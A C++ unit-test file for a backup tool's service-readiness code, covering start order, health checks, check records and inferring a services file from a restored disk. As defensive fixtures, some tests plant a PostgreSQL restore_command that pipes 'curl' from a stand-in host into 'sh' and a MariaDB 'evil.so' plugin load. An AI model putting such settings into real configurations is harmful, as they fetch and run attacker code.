// SPDX-FileCopyrightText: 2026 The lastgood authors
// SPDX-License-Identifier: Apache-2.0
// Proves that what services say of themselves and what is known of their data come to the right word; that they are
// started in their order, wait for each other, and are given up in order; that commands are only taken from the file
// that was set, and never from a backup; and that a file is proposed from what lies on a server.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <httplib.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <thread>

#include "casefile/testing/memory_case_store.h"
#include "ledger/ledger.h"
#include "os/tcp_connect.h"
#include "os/testing/scratch_folder.h"
#include "readiness/ask_health.h"
#include "readiness/ask_http.h"
#include "readiness/infer_services.h"
#include "readiness/kept_services.h"
#include "readiness/read_settings.h"
#include "readiness/service_state.h"
#include "readiness/start_services.h"
#include "services/check_record.h"
#include "services/history.h"

namespace lastgood::readiness {
namespace {

using services::Moment;

void write(const std::string& path, const std::string& text) {
  std::filesystem::create_directories(std::filesystem::path(path).parent_path());
  std::ofstream(path) << text;
}

bool never() { return false; }

class Services : public ::testing::Test {
 protected:
  void SetUp() override {
    auto ledger = ledger::create_ledger(scratch_.path());
    ASSERT_TRUE(ledger.ok());
    ledger_ = std::move(ledger).value();
  }

  services::ServicesFile set(const std::string& text) {
    const std::string path = scratch_.path() + "/own/services.toml";
    write(path, text);
    auto file = set_services(path, store_, *ledger_, scratch_.path());
    EXPECT_TRUE(file.ok()) << file.error().what << file.error().hint;
    return file.ok() ? std::move(file).value() : services::ServicesFile{};
  }

  base::ErrorCode refused(const std::string& text, const std::string& path) {
    write(path, text);
    auto file = set_services(path, store_, *ledger_, scratch_.path());
    EXPECT_FALSE(file.ok());
    what_ = file.ok() ? "" : file.error().what;
    return file.ok() ? base::ErrorCode::io : file.error().code;
  }

  std::string start(const services::ServicesFile& file, const std::string& service = {}) {
    class Quiet final : public StartProgress {
      void step(const std::string&) override {}
      void reached(const services::HistoryEntry&, double) override {}
    } quiet;
    const auto ended = start_services(file, {.case_folder = scratch_.path(), .service = service}, *ledger_, quiet);
    EXPECT_TRUE(ended.ok());
    std::string out;
    if (!ended.ok()) return ended.error().what;
    for (const auto& entry : ended.value())
      out += entry.service + " " + std::string(services::name_of(entry.moment)) + "\n";
    sentence_ = ended.value().empty() ? "" : ended.value().back().sentence;
    return out;
  }

  std::string ledger_text() const {
    std::ifstream file(scratch_.path() + "/ledger");
    return {std::istreambuf_iterator<char>(file), {}};
  }

  os::testing::ScratchFolder scratch_;
  casefile::testing::MemoryCaseStore store_;
  std::unique_ptr<ledger::Ledger> ledger_;
  std::string what_;
  std::string sentence_;
};

TEST_F(Services, AreStartedInTheirOrderAndTheHistorySaysWhen) {
  const std::string sign = scratch_.path() + "/db-is-up";
  const auto file =
      set("[service.opd]\ndepends_on=[\"db\"]\nstart=[\"/bin/true\"]\nhealthcheck={test=[\"CMD\",\"/usr/bin/"
          "test\",\"-e\",\"" +
          sign + "\"],interval=\"10ms\"}\n[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign +
          "\"]\nhealthcheck={test=[\"CMD\",\"/usr/bin/test\",\"-e\",\"" + sign + "\"],interval=\"10ms\"}\n");
  EXPECT_EQ(start(file), "db starting\ndb healthy\nopd healthy\n");
  const auto history = services::read_history(scratch_.path());
  ASSERT_TRUE(history.ok());
  EXPECT_EQ(history.value().entries.size(), 3U);
  EXPECT_EQ(history.value().newest("db")->moment, Moment::healthy);
  EXPECT_EQ(history.value().newest("nobody"), nullptr);
}

TEST_F(Services, ThatWaitForOneThatFailsAreNotStarted) {
  const std::string sign = scratch_.path() + "/opd-was-started";
  const auto file = set("[service.opd]\ndepends_on=[\"db\"]\nstart=[\"/usr/bin/touch\",\"" + sign +
                        "\"]\n[service.db]\nstart=[\"/bin/sh\",\"-c\",\"echo no space left; exit "
                        "3\"]\n[service.mail]\nstart=[\"/bin/true\"]\n");
  EXPECT_EQ(start(file), "db failed\nopd not_started\nmail starting\nmail starting\n");
  EXPECT_FALSE(std::filesystem::exists(sign));
}

TEST_F(Services, ThatDoNotBecomeWellAreSaidSo) {
  const auto file =
      set("[service.db]\nstart=[\"/bin/true\"]\nhealthcheck={tcp=\"127.0.0.1:1\",retries=2,interval=\"10ms\"}\n");
  EXPECT_EQ(start(file), "db starting\ndb failed\n");
  EXPECT_NE(sentence_.find("did not become well"), std::string::npos) << sentence_;
}

TEST_F(Services, HooksRunFirstAndMayStopAStart) {
  EXPECT_EQ(
      start(set("[service.a]\nstart=[\"/bin/true\"]\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/false\"]\n")),
      "a failed\n");
  EXPECT_EQ(start(set("[service.a]\nstart=[\"/bin/true\"]\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/false\"]\n"
                      "on_error=\"continue\"\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/"
                      "sleep\",\"9\"]\nexec_timeout=\"50ms\"\non_error="
                      "\"continue\"\n")),
            "a failed\na failed\na starting\na starting\n");
}

TEST_F(Services, CommandsAreOnlyTakenFromTheFileThatWasSet) {
  set("[service.a]\nstart=[\"/bin/true\"]\n");
  EXPECT_TRUE(read_set_services(scratch_.path()).ok());
  std::ofstream(kept_services_path(scratch_.path()), std::ios::app) << "# changed\n";
  const auto changed = read_set_services(scratch_.path());
  ASSERT_FALSE(changed.ok());
  EXPECT_EQ(changed.error().code, base::ErrorCode::damaged_container);
}

TEST_F(Services, AFileFromABackupOrFromDataIsRefused) {
  model::BackupSource source;
  source.name = "nas";
  source.address = "folder:" + scratch_.path() + "/backup";
  ASSERT_TRUE(store_.backups().put_source(source).ok());
  EXPECT_EQ(refused("[service.a]\n", scratch_.path() + "/backup/etc/services.toml"), base::ErrorCode::misuse);
  EXPECT_NE(what_.find("commands could be the attacker's"), std::string::npos);
  const std::string data = scratch_.path() + "/data";
  EXPECT_EQ(
      refused("[service.a]\n[[service.a.data]]\nkind=\"files\"\npath=\"" + data + "\"\n", data + "/services.toml"),
      base::ErrorCode::misuse);
  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/restored"}}).ok());
  EXPECT_EQ(refused("[service.a]\n", scratch_.path() + "/restored/services.toml"), base::ErrorCode::misuse);
}

TEST_F(Services, AProgramFromABackupOrFromDataIsRefused) {
  const std::string data = scratch_.path() + "/data";
  write(data + "/start.sh", "#!/bin/sh\ntouch " + scratch_.path() + "/was-run\n");
  const std::string unit = "[[service.a.data]]\nkind=\"files\"\npath=\"" + data + "\"\n";
  for (const std::string& command :
       {"start=[\"" + data + "/start.sh\"]\n", "healthcheck={test=[\"CMD\",\"" + data + "/start.sh\"]}\n",
        "stop=[\"" + data + "/start.sh\"]\n"})
    EXPECT_EQ(refused("[service.a]\n" + command + unit, scratch_.path() + "/own/s.toml"), base::ErrorCode::misuse);
  // Through a link, too.
  std::filesystem::create_directory_symlink(data, scratch_.path() + "/link");
  EXPECT_EQ(refused("[service.a]\nstart=[\"" + scratch_.path() + "/link/start.sh\"]\n" + unit,
                    scratch_.path() + "/own/s.toml"),
            base::ErrorCode::misuse);
  EXPECT_FALSE(std::filesystem::exists(scratch_.path() + "/was-run"));
}

TEST_F(Services, ThatDoNotWaitForEachOtherAreStartedAtTheSameTime) {
  std::string text;
  for (int i = 0; i < 4; ++i) text += fmt::format("[service.s{}]\nstart=[\"/bin/sleep\",\"0.5\"]\n", i);
  text += "[service.last]\ntier=0\ndepends_on=[\"s0\",\"s3\"]\nstart=[\"/bin/true\"]\n";
  const auto file = set(text);
  const auto begun = std::chrono::steady_clock::now();
  const std::string ended = start(file);
  EXPECT_LT(std::chrono::steady_clock::now() - begun, std::chrono::milliseconds(1900));  // one by one it takes 2 s
  EXPECT_EQ(ended,
            "s0 starting\ns0 starting\ns3 starting\ns3 starting\nlast starting\nlast starting\ns1 starting\ns1 "
            "starting\ns2 starting\ns2 starting\n");
  const auto history = services::read_history(scratch_.path());
  ASSERT_TRUE(history.ok());
  EXPECT_EQ(history.value().entries.size(), 10U);
  // s1 and s2 it need not wait for.
  std::vector<std::string> order;
  for (const auto& entry : history.value().entries) order.push_back(entry.service);
  const auto first_of_last = std::find(order.begin(), order.end(), "last");
  for (const char* const needed : {"s0", "s3"})
    EXPECT_EQ(std::find(first_of_last, order.end(), needed), order.end()) << needed << " was not awaited";
}

TEST_F(Services, AreNotStartedOnDataThatWouldRunWhatWasPlanted) {
  const std::string data = scratch_.path() + "/srv/pg";
  const std::string sign = scratch_.path() + "/db-was-started";
  const auto text = [&](const std::string& kind, const std::string& more) {
    return "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\nkind=\"" + kind +
           "\"\npath=\"" + data + "\"\n" + more + "[[service.db.hooks.post_restore]]\ncommand=[\"/usr/bin/touch\",\"" +
           sign + "\"]\n[service.opd]\ndepends_on=[\"db\"]\n[service.mail]\nstart=[\"/bin/true\"]\n";
  };
  const std::string refused = "db failed\nopd not_started\nmail starting\nmail starting\n";
  const std::string allowed = "allow_settings=[\"archive_command\"]\n";
  const auto try_start = [&](const std::string& kind, const std::string& more = {}) {
    std::filesystem::remove(sign);
    const std::string out = start(set(text(kind, more)));
    EXPECT_EQ(out == refused, !std::filesystem::exists(sign)) << out;
    return out == refused;
  };
  EXPECT_FALSE(try_start("postgresql")) << "no such folder on this machine";
  write(data + "/postgresql.conf", "port = 5432\narchive_command = '/bin/cp %p /wal/%f'\n");
  EXPECT_FALSE(try_start("postgresql")) << "a live server's own setting";
  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/other"}}).ok());
  EXPECT_FALSE(try_start("postgresql")) << "another folder was restored";
  const std::vector<std::string> elsewhere{"/etc", scratch_.path() + "/srv"};
  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", "/"}, {"settings_in", elsewhere}}).ok());
  EXPECT_FALSE(try_start("postgresql")) << "in place of the machine, and nothing of it into this folder";

  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/srv"}}).ok());
  EXPECT_TRUE(try_start("postgresql"));
  const auto history = services::read_history(scratch_.path());
  ASSERT_TRUE(history.ok());
  const std::string& why = history.value().newest("db")->sentence;
  EXPECT_NE(why.find("postgresql.conf:2 archive_command = '/bin/cp %p /wal/%f'"), std::string::npos) << why;
  EXPECT_NE(why.find("lastgood replay " + data), std::string::npos) << why;
  EXPECT_NE(why.find("allow_settings = [\"archive_command\"]"), std::string::npos) << why;
  EXPECT_NE(ledger_text().find("service-start-refused"), std::string::npos);
  EXPECT_FALSE(try_start("postgresql", allowed));
  // What a person has read is that setting, and no other one.
  write(data + "/postgresql.auto.conf", "Session-Preload-Libraries = '/tmp/x.so'\n");
  EXPECT_TRUE(try_start("postgresql", allowed));
  write(data + "/postgresql.auto.conf", std::string((1U << 20U) + 1, '#'));
  EXPECT_TRUE(try_start("postgresql", allowed)) << "too large to be read";
  std::filesystem::remove(data + "/postgresql.auto.conf");
  std::filesystem::create_symlink("/tmp/elsewhere.conf", data + "/postgresql.auto.conf");
  EXPECT_TRUE(try_start("postgresql", allowed)) << "a link";
  std::filesystem::remove(data + "/postgresql.auto.conf");
  EXPECT_FALSE(try_start("postgresql", allowed));
}

TEST_F(Services, AreNotStartedOnDataLaidOutToRunWhoeverRestoredThem) {
  const std::string data = scratch_.path() + "/pg";
  const std::string sign = scratch_.path() + "/was-started";
  const std::string unit =
      "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\npath=\"" + data + "\"\nkind=";
  write(data + "/recovery.signal", "");
  write(data + "/postgresql.auto.conf", "restore_command = 'curl http://192.0.2.7/x | sh'\n");
  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
  // Behind a link, too: the engine follows it.
  std::filesystem::rename(data, data + "-real");
  std::filesystem::create_symlink(data + "-real", data);
  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
  EXPECT_EQ(start(set(unit + "\"postgresql\"\nallow_settings=[\"restore_command\"]\n")), "db starting\ndb starting\n");
  std::filesystem::remove(data);
  std::filesystem::remove(sign);
  write(data + "/my.cnf", "[mysqld]\nplugin-load-add = evil.so\n");
  EXPECT_EQ(start(set(unit + "\"mariadb\"\n")), "db failed\n");
  EXPECT_FALSE(std::filesystem::exists(sign));
  EXPECT_EQ(start(set(unit + "\"mariadb\"\nallow_settings=[\"plugin_load_add\"]\n")), "db starting\ndb starting\n");
}

class AfterARestore : public Services {
 protected:
  /// A scan that saw `a.docx.locked` encrypted, as it lies below the data now, and ended before what follows.
  void SetUp() override {
    Services::SetUp();
    data_ = scratch_.path() + "/srv/lab";
    write(data_ + "/a.docx.locked", "noise");
    struct stat status {};
    ASSERT_EQ(::stat((data_ + "/a.docx.locked").c_str(), &status), 0);
    model::FileRecord hit{.path = data_ + "/a.docx.locked",
                          .size_bytes = 5,
                          .mtime_ns = status.st_mtim.tv_sec * 1'000'000'000 + status.st_mtim.tv_nsec,
                          .verdict = model::Verdict::encrypted};
    const std::int64_t id = store_.begin_scan({.host = "lab", .roots = {data_}}).value();
    ASSERT_TRUE(store_.record_files(id, std::vector{hit}, {}).ok());
    ASSERT_TRUE(store_.finish_scan(id, 1, {}).ok());
  }
  void tell_restore(const std::string& target, const std::string& outcome) {
    const ledger::Fields fields{
        {"journal", target + outcome}, {"mode", "in-place"}, {"target", target}, {"outcome", outcome}};
    ASSERT_TRUE(ledger_->append("restore-begun", fields).ok());
    ASSERT_TRUE(ledger_->append("restore-finished", fields).ok());
  }
  /// Encrypted files that count, and those that were replaced.
  std::string counted() {
    const auto file =
        services::parse_services("[service.lab]\n[[service.lab.data]]\nkind=\"files\"\npath=\"" + data_ + "\"\n", "s");
    const auto input = gather_standings(file.file, {}, scratch_.path(), store_, AskHealth::no);
    if (!input.ok()) return input.error().what;
    const DataState& state = input.value().data.at("lab").at(0);
    return fmt::format("{} {}", state.hit, state.replaced);
  }
  std::string data_;
};

TEST_F(AfterARestore, WhatIsNoLongerThereIsNotCalledEncryptedUntilTheNextScan) {
  EXPECT_EQ(counted(), "1 0");
  std::filesystem::rename(data_ + "/a.docx.locked", scratch_.path() + "/kept");
  EXPECT_EQ(counted(), "1 0") << "gone without a restore: who knows where to";
  tell_restore("/", "no space left on device");
  tell_restore(scratch_.path() + "/srv/other", "finished");
  EXPECT_EQ(counted(), "1 0") << "no restore of it has ended well";
  tell_restore("/", "finished");
  EXPECT_EQ(counted(), "0 1");
}

TEST_F(AfterARestore, WhatStillLiesThereAsTheScanSawItStaysEncrypted) {
  tell_restore(scratch_.path() + "/srv", "finished");
  EXPECT_EQ(counted(), "1 0");
  write(data_ + "/a.docx.locked", "good again");
  EXPECT_EQ(counted(), "0 1");
}

services::ServicesFile parse(const std::string& text) {
  auto read = services::parse_services(text, "s");
  EXPECT_TRUE(read.mistakes.empty()) << read.mistakes.front().sentence;
  return std::move(read.file);
}

/// Standings of db <- opd, as "up degraded".
std::string states(const services::ServicesFile& file, const std::map<std::string, Health>& health,
                   const std::map<std::string, DataState>& data, std::vector<ServiceStanding>* kept = nullptr) {
  StandingInput input;
  input.order = services::order_of(file, {});
  for (const auto& [name, answer] : health) input.health[name] = {answer, "as the test says", 1};
  for (const auto& [name, state] : data) input.data[name] = {state};
  input.rate = {.bytes_per_s = 1000, .basis = "1 kB/s"};
  std::string out;
  auto standings = decide_standings(input);
  for (const ServiceStanding& standing : standings) out += std::string(name_of(standing.state)) + " ";
  if (kept != nullptr) *kept = std::move(standings);
  return out;
}

DataState copy(DataState::Known known, std::uint64_t bytes = 0, std::int64_t as_of_ns = 0) {
  DataState out;
  out.known = known;
  out.bytes = bytes;
  out.data_as_of_ns = as_of_ns;
  return out;
}

TEST(Standing, IsWhatIsAskedAndWhatIsKnownOfTheData) {
  using Known = DataState::Known;
  const auto file = parse("[service.db]\n[service.opd]\ndepends_on=[\"db\"]\n");
  EXPECT_EQ(states(file, {{"db", Health::well}, {"opd", Health::well}}, {}), "up up ");
  EXPECT_EQ(states(file, {{"db", Health::not_well}, {"opd", Health::well}}, {{"db", copy(Known::tested)}}),
            "restorable degraded ");
  EXPECT_EQ(states(file, {{"db", Health::not_well}, {"opd", Health::not_well}},
                   {{"db", copy(Known::none)}, {"opd", copy(Known::tested)}}),
            "down down ");
  EXPECT_EQ(states(file, {{"db", Health::not_well}, {"opd", Health::not_well}},
                   {{"db", copy(Known::judged)}, {"opd", copy(Known::not_known)}}),
            "restorable down ");
  EXPECT_EQ(states(file, {}, {}), "unknown unknown ");
  EXPECT_EQ(states(file, {}, {{"db", copy(Known::tested)}, {"opd", copy(Known::regenerated)}}),
            "restorable restorable ");
  DataState hit = copy(Known::tested);
  hit.hit = 3;
  EXPECT_EQ(states(file, {{"db", Health::well}, {"opd", Health::well}}, {{"db", hit}}), "degraded up ");
}

TEST(Standing, SaysWhenEachIsBackAndAsOfWhen) {
  using Known = DataState::Known;
  std::vector<ServiceStanding> standings;
  states(parse("[service.db]\n[service.opd]\ndepends_on=[\"db\"]\n"), {},
         {{"db", copy(Known::tested, 5000, 70)}, {"opd", copy(Known::tested, 1000, 90)}}, &standings);
  ASSERT_EQ(standings.size(), 2U);
  EXPECT_EQ(standings[0].ready_s, 5);
  EXPECT_EQ(standings[1].ready_s, 6);
  EXPECT_EQ(standings[1].data_as_of_ns, 70);  // no newer than what it waits for
  EXPECT_EQ(standings[1].waits_for, std::vector<std::string>{"db"});
}

TEST(Health, IsAskedOverHttp) {
  httplib::Server server;
  server.Get("/well",
             [](const httplib::Request&, httplib::Response& answer) { answer.set_content("ok", "text/plain"); });
  server.Get("/ill", [](const httplib::Request&, httplib::Response& answer) { answer.status = 503; });
  server.Get("/away",
             [](const httplib::Request&, httplib::Response& answer) { answer.set_redirect("http://127.0.0.1:1/"); });
  const int port = server.bind_to_any_port("127.0.0.1");
  std::thread serving([&] { server.listen_after_bind(); });
  while (!server.is_running()) std::this_thread::sleep_for(std::chrono::milliseconds(1));
  const std::string here = "http://127.0.0.1:" + std::to_string(port);
  EXPECT_EQ(ask_http(here + "/well", 2).health, Health::well);
  EXPECT_EQ(ask_http(here + "/ill", 2).sentence, here + "/ill answers 503");
  EXPECT_EQ(ask_http(here + "/ill", 2).health, Health::not_well);
  EXPECT_EQ(ask_http(here + "/away", 2).health, Health::well);  // an answer of 302, which is not followed
  EXPECT_TRUE(os::try_tcp("127.0.0.1", static_cast<std::uint16_t>(port), 2).ok());
  server.stop();
  serving.join();
  const auto ask = [](const std::string& check) {
    return ask_once(parse("[service.a]\nhealthcheck={" + check + "}\n").services[0]);
  };
  EXPECT_EQ(ask("http=\"http://127.0.0.1:1/health\",timeout=\"1s\"").health, Health::not_well);
  EXPECT_EQ(ask("http=\"https://127.0.0.1:1/\"").health, Health::unknown);
  EXPECT_EQ(ask("test=[\"CMD\",\"/bin/true\"]").health, Health::well);
  EXPECT_EQ(ask("test=[\"CMD\",\"/no/such\"]").health, Health::not_well);
  EXPECT_EQ(ask("test=[\"CMD\",\"/bin/sleep\",\"20\"],timeout=\"50ms\"").health, Health::not_well);
}

TEST(Health, InSqlNeedsAServerAndAPasswordThatNotEverybodyReads) {
  const os::testing::ScratchFolder scratch;
  const std::string password = scratch.path() + "/password";
  write(password, "secret\n");
  const auto ask = [&](const std::string& place) {
    return ask_once(parse("[service.a]\nhealthcheck={sql=\"SELECT 1\",user=\"watch\",timeout=\"1s\",password_file=\"" +
                          password + "\"," + place + "}\n[[service.a.data]]\nkind=\"postgresql\"\npath=\"/pg\"\n")
                        .services[0]);
  };
  std::filesystem::permissions(password, std::filesystem::perms(0644));
  EXPECT_EQ(ask("host=\"::1\",port=1").health, Health::unknown);
  std::filesystem::permissions(password, std::filesystem::perms(0600));
  EXPECT_EQ(ask("host=\"::1\",port=1").health, Health::not_well);
  const HealthAnswer no_socket = ask("socket=\"" + scratch.path() + "/.s.PGSQL.5433\"");
  EXPECT_EQ(no_socket.health, Health::not_well);
  EXPECT_NE(no_socket.sentence.find("/.s.PGSQL.5433"), std::string::npos) << no_socket.sentence;
  EXPECT_EQ(no_socket.sentence.find("PGSQL.5433/"), std::string::npos) << "its folder is asked";
  std::filesystem::remove(password);
  EXPECT_EQ(ask("host=\"::1\",port=1").health, Health::unknown);
}

TEST(Health, IsAskedOfManyAtOnce) {
  std::string text;
  for (int i = 0; i < 32; ++i)
    text += "[service.s" + std::to_string(i) + "]\nhealthcheck={test=[\"CMD\",\"/bin/sleep\",\"0.1\"]}\n";
  const auto file = parse(text);
  const auto begun = std::chrono::steady_clock::now();
  const auto answers = ask_all(services::order_of(file, {}), &never);
  EXPECT_LT(std::chrono::steady_clock::now() - begun, std::chrono::milliseconds(2000));  // one by one it takes 3.2 s
  for (const HealthAnswer& answer : answers) EXPECT_EQ(answer.health, Health::well) << answer.sentence;
}

TEST(Checks, AreKeptUnderNumbersAndReadBack) {
  const os::testing::ScratchFolder scratch;
  services::CheckRecord record;
  record.made_ns = 1'669'187'218'000'000'000;
  record.data.push_back({.service = "db",
                         .data = "main",
                         .kind = "postgresql",
                         .path = "/pg",
                         .outcome = services::TrialOutcome::passed,
                         .proof = services::Proof::started,
                         .sentence = "it started",
                         .source = "nas",
                         .snapshot = "3fa1",
                         .snapshot_ns = 1'669'180'000'000'000'000,
                         .data_as_of_ns = 1'669'187'218'000'000'000,
                         .bytes = 7,
                         .files = 2,
                         .seconds = 1.5});
  ASSERT_TRUE(services::keep_check(record, scratch.path()).ok());
  record.data[0].outcome = services::TrialOutcome::failed;
  record.made_ns += 1;
  const auto kept = services::keep_check(record, scratch.path());
  ASSERT_TRUE(kept.ok());
  EXPECT_EQ(kept.value().number, 2U);
  write(scratch.path() + "/services/checks/0003.json", "{\"data\":[{}]");
  const auto all = services::read_checks(scratch.path());
  ASSERT_TRUE(all.ok());
  EXPECT_EQ(all.value().records.size(), 2U);
  EXPECT_EQ(all.value().unreadable.size(), 1U);
  const auto [trial, made_ns] = all.value().newest("db", "main", "/pg");
  ASSERT_NE(trial, nullptr);
  EXPECT_EQ(trial->outcome, services::TrialOutcome::failed);
  EXPECT_EQ(made_ns, record.made_ns);
  EXPECT_EQ(trial->data_as_of_ns, record.data[0].data_as_of_ns);
  EXPECT_EQ(all.value().newest("db", "main", "/moved").first, nullptr);
}

TEST(Inferring, ProposesAFileWithoutMistakes) {
  const os::testing::ScratchFolder scratch;
  const std::string root = scratch.path() + "/disk";
  write(root + "/etc/samba/smb.conf",
        "[global]\n path = /x\n[homes]\npath=/home/%U\n[Radiology \"x\"]\n  path = /srv/rad\n[evil]\npath = /a/../b\n");
  for (const char* user : {"a", "b", "c", "d"}) {
    for (const char* part : {"cur", "new", "tmp"})
      write(root + "/srv/mail/" + user + "/" + part + "/1.x", "From: x\n\nx\n");
  }
  write(root + "/etc/dovecot/dovecot.conf",
        "# mail_location = maildir:/no\nmail_location = maildir:/srv/post/%d/%n:INBOX=/x\n");
  write(root + "/etc/dovecot/conf.d/10-mail.conf", "mail_location = maildir:/srv/mail/%u\n");
  const auto inferred = infer_services(root, root);
  ASSERT_TRUE(inferred.ok()) << inferred.error().what;
  const std::string& text = inferred.value().text;
  const auto read = services::parse_services(text, "s");
  EXPECT_TRUE(read.mistakes.empty()) << read.mistakes.front().sentence << "\n" << text;
  EXPECT_NE(text.find("path = \"/srv/rad\""), std::string::npos) << text;
  EXPECT_NE(text.find("kind = \"maildir\"\npath = \"/srv/mail\""), std::string::npos) << text;
  EXPECT_EQ(text.find("/home/"), std::string::npos);
  EXPECT_EQ(text.find("../b"), std::string::npos);
  EXPECT_NE(text.find("kind = \"maildir\"\npath = \"/srv/post\""), std::string::npos) << text;
  EXPECT_EQ(text.find("path = \"/srv/mail\"", text.find("path = \"/srv/mail\"") + 1), std::string::npos) << "once";
}

TEST(Inferring, ReadsWhereLogsAreSavedAndLeavesOutWhatThisProgramMade) {
  EXPECT_EQ(parse_archive_folder("cp %p /srv/wal/%f"), "/srv/wal");
  EXPECT_EQ(parse_archive_folder("test ! -f /mnt/a/%f && cp %p /mnt/a/%f"), "/mnt/a");
  EXPECT_EQ(parse_archive_folder("gzip <%p >\"/srv/w a/%f.gz\""), "");
  EXPECT_EQ(parse_archive_folder("gzip <%p >/srv/w/%f.gz"), "/srv/w");
  for (const char* const none : {"", "%f", "/%f", "rsync %p b@host:/srv/%f", "cp %p $HOME/%f", "cp %p /a/../b/%f"})
    EXPECT_EQ(parse_archive_folder(none), "") << none;
  const os::testing::ScratchFolder scratch;
  for (const char* const folder : {"/pg", "/pg.before-replay-17", "/.lastgood-kept/x/pg", "/night.case/pg"}) {
    for (const char* const file : {"/PG_VERSION", "/global/pg_control", "/base/1/1259", "/pg_wal/x"})
      write(scratch.path() + folder + file, "15\n");
    write(scratch.path() + folder + "/postgresql.conf", "archive_command = 'cp %p /srv/wal/%f'\n");
  }
  write(scratch.path() + "/oth/index", "x");
  const auto inferred = infer_services(scratch.path(), scratch.path());
  ASSERT_TRUE(inferred.ok());
  EXPECT_EQ(inferred.value().services, 1U) << inferred.value().text;
  EXPECT_NE(inferred.value().text.find("logs = \"/srv/wal\"  # from its archive_command"), std::string::npos);
  EXPECT_TRUE(services::parse_services(inferred.value().text, "s").mistakes.empty());
}

TEST(Inferring, ReadsWhatDovecotAndOrthancSay) {
  EXPECT_EQ(parse_mail_folder("mail_location = maildir:~/Maildir\n"), "");
  EXPECT_EQ(parse_mail_folder("mail_location = maildir:/srv/../etc/%u\n"), "");
  EXPECT_EQ(parse_mail_folder("mail_location=maildir:/var/mail/%u"), "/var/mail");
  const OrthancSettings read = parse_orthanc_settings(
      "/* c */ { // one\n\"StorageDirectory\": \"/var/lib/orthanc/db-v6\", \"HttpPort\": 8043 }");
  EXPECT_EQ(read.index_folder, "/var/lib/orthanc/db-v6");
  EXPECT_EQ(read.http_port, 8043U);
  for (const std::string& hostile :
       {std::string(), std::string("{"), std::string("[1]"), std::string(500'000, '['),
        std::string("{\"HttpPort\": -1, \"IndexDirectory\": [], \"StorageDirectory\": \"x\"}"),
        std::string("{\"HttpPort\": 99999999999}"), std::string("\xff\x00{", 3)}) {
    EXPECT_EQ(parse_orthanc_settings(hostile).http_port, 0U);
    EXPECT_EQ(parse_orthanc_settings(hostile).index_folder, "");
  }
}

}  // namespace
}  // namespace lastgood::readiness
